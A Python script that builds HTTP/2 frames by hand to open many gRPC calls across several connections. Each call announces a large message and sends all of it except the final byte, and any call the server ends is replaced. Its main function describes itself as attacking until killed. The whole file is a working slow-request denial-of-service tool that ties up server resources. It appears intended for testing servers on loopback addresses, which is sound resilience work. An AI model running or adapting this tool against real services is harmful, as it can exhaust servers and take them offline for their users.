"""A client that no library would be: it opens gRPC calls by hand-made HTTP/2 frames, and never ends a message."""

from __future__ import annotations

import contextlib
import socket
import struct
import sys
import threading
from typing import Self

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
ACK, END_HEADERS = 1, 4
INITIAL_WINDOW = 65_535
FRAME = 16_384
SETTING_INITIAL_WINDOW = 4


class UnfinishedCalls:
    """A connection with `calls` calls at a time, each of which announces a message and sends all of it but the last byte.

    A call that the server ends is replaced by another one. Nothing is sent beyond the windows that the server grants. A thread
    does all this from `with` to its end, or until the server closes the connection.

    Args:
        address: "host:port".
        method: "/package.Service/Method".
        calls: How many at a time.
        message_bytes: The size that is announced. With 0 not even that is: the call has begun, and that is all.
        host: This end's, by which servers tell clients apart: any of 127.0.0.0/8.

    Attributes:
        ended: Calls that the server has ended so far.
    """

    def __init__(
        self, address: str, method: str, *, calls: int, message_bytes: int = 4_000_000, host: str = "127.0.0.1"
    ) -> None:
        self._to, self._from = address.rpartition(":"), host
        self._method, self._calls, self._size = method, calls, message_bytes
        self._windows: dict[int, int] = {}  # what may still be sent on each call
        self._left: dict[int, int] = {}  # what is still to be sent on each call
        self._window, self._initial, self._next = INITIAL_WINDOW, INITIAL_WINDOW, 1
        self.ended = 0

    def __enter__(self) -> Self:
        host, _, port = self._to
        self._socket = socket.create_connection((host, int(port)), source_address=(self._from, 0))
        self._socket.sendall(PREFACE + _frame(SETTINGS, 0, 0, b""))
        self._thread = threading.Thread(target=self._run, name="unfinished", daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        with contextlib.suppress(OSError):
            self._socket.shutdown(socket.SHUT_RDWR)
        self._thread.join()
        self._socket.close()

    def _run(self) -> None:
        with contextlib.suppress(OSError), self._socket.makefile("rb") as incoming:
            while len(head := incoming.read(9)) == 9:
                size = int.from_bytes(head[:3])
                self._take(head[3], head[4], int.from_bytes(head[5:]), incoming.read(size))
                while len(self._left) < self._calls:
                    self._open()
                for stream in list(self._left):
                    self._send(stream)

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            for name, value in struct.iter_unpack(">HI", payload):
                if name == SETTING_INITIAL_WINDOW:
                    for each in self._windows:
                        self._windows[each] += value - self._initial
                    self._initial = value
            self._socket.sendall(_frame(SETTINGS, ACK, 0, b""))
        elif kind == PING and not flags & ACK:
            self._socket.sendall(_frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE:
            if stream == 0:
                self._window += int.from_bytes(payload)
            elif stream in self._windows:
                self._windows[stream] += int.from_bytes(payload)
        elif kind == RST_STREAM or (kind == HEADERS and flags & 1):
            self.ended += self._left.pop(stream, None) is not None
            self._windows.pop(stream, None)

    def _open(self) -> None:
        stream, self._next = self._next, self._next + 2
        host, _, port = self._to
        fields = {
            ":method": "POST",
            ":scheme": "http",
            ":path": self._method,
            ":authority": f"{host}:{port}",
            "te": "trailers",
            "content-type": "application/grpc",
        }
        block = b"".join(b"\0" + _text(name) + _text(value) for name, value in fields.items())
        self._socket.sendall(_frame(HEADERS, END_HEADERS, stream, block))
        self._windows[stream], self._left[stream] = self._initial, 0
        if self._size:
            self._socket.sendall(_frame(DATA, 0, stream, b"\0" + self._size.to_bytes(4)))
            self._windows[stream] -= 5
            self._window -= 5
            self._left[stream] = self._size - 1

    def _send(self, stream: int) -> None:
        while (size := min(self._left[stream], self._windows[stream], self._window, FRAME)) > 0:
            self._socket.sendall(_frame(DATA, 0, stream, bytes(size)))
            self._left[stream] -= size
            self._windows[stream] -= size
            self._window -= size


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def _text(text: str) -> bytes:
    """A string of HPACK, without Huffman coding, shorter than 127 bytes."""
    return bytes((len(text),)) + text.encode()


def main(address: str, method: str, connections: str, calls: str, message_bytes: str) -> None:
    """Attacks until it is killed, as a process of its own."""
    with contextlib.ExitStack() as stack:
        for _ in range(int(connections)):
            stack.enter_context(UnfinishedCalls(address, method, calls=int(calls), message_bytes=int(message_bytes)))
        threading.Event().wait()


if __name__ == "__main__":
    main(*sys.argv[1:])
